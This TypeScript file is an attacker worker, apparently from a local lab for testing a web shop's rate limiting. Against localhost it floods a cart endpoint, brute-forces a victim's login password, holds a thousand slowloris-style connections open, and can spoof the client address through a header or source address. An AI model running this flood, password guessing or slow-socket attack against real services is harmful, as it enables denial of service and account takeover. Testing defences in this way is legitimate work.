import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { parentPort, workerData } from "node:worker_threads";
import { Agent, request } from "undici";
import type { AttackerOptions } from "./attacker.ts";

/** Requests of each kind in flight at the same time. */
const AT_ONCE = 4;
/** From an answer to the next request. That makes up to 200 requests a second, four times what nginx lets one address change: more would only show how much of this machine the lab itself needs. */
const PAUSE_MS = 40;
const SLOW_SOCKETS = 1000;
/** A slow socket sends another line this often, so that it stays open as long as possible. */
const TRICKLE_MS = 2000;

const { url, address, clientAddress, victim } = workerData as AttackerOptions;
const statuses = new Map<number, number>();
let isOver = false;
let guesses = 0;

const local = clientAddress.by === "source" ? { localAddress: address } : {};
const agent = new Agent({ pipelining: 0, ...local });
const flood = () => post("/cart/items", { sku: "abacus" });
const guess = () => post("/login", { username: victim, password: `guess ${guesses++}` });

const release = holdSockets();
const crowd = [flood, guess].flatMap((ask) => Array.from({ length: AT_ONCE }, () => again(ask)));
if (parentPort) await once(parentPort, "message");
isOver = true;
await Promise.all(crowd);
release();
await agent.destroy();
parentPort?.postMessage(statuses);

async function again(ask: () => Promise<number>): Promise<void> {
  while (!isOver) {
    const status = await ask().catch(() => 0);
    statuses.set(status, (statuses.get(status) ?? 0) + 1);
    await sleep(PAUSE_MS);
  }
}

async function post(path: string, body: object): Promise<number> {
  const response = await request(new URL(path, url.replace("//localhost", "//127.0.0.1")), {
    method: "POST",
    dispatcher: agent,
    headers: {
      accept: "application/json",
      "content-type": "application/json",
      ...(clientAddress.by === "header" && { [clientAddress.header]: address }),
    },
    body: JSON.stringify(body),
  });
  await response.body.dump();
  return response.statusCode;
}

/** Holds connections whose request never ends, and opens one that is closed again. Returns a function that closes them. */
function holdSockets(): () => void {
  const open = (): Socket => {
    const socket = connect({ port: Number(new URL(url).port), host: "127.0.0.1", ...local });
    socket.on("error", () => {}).write("GET / HTTP/1.1\r\nhost: localhost\r\n");
    return socket;
  };
  let sockets = Array.from({ length: SLOW_SOCKETS }, open);
  const trickle = setInterval(() => {
    sockets = sockets.map((socket) => (socket.destroyed ? open() : socket));
    for (const socket of sockets) socket.write("x: y\r\n");
  }, TRICKLE_MS);
  return () => {
    clearInterval(trickle);
    for (const socket of sockets) socket.destroy();
  };
}
